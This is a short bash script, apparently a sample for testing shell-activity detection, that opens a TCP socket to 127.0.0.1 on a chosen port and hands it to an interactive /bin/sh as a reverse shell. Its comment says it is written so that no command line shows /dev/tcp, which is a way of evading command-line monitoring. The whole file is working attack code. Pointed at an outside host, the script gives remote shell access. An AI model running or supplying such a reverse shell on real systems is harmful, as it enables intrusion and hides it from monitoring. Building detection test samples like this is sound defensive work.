#!/bin/bash
# The same reverse shell written in a script, where no command line shows
# /dev/tcp: bash opens the socket as fd 3 and hands it to sh as its stdio.
# Usage: bash revshell_bash_script.sh PORT
exec 3<>"/dev/tcp/127.0.0.1/$1"
/bin/sh -i <&3 >&3 2>&3
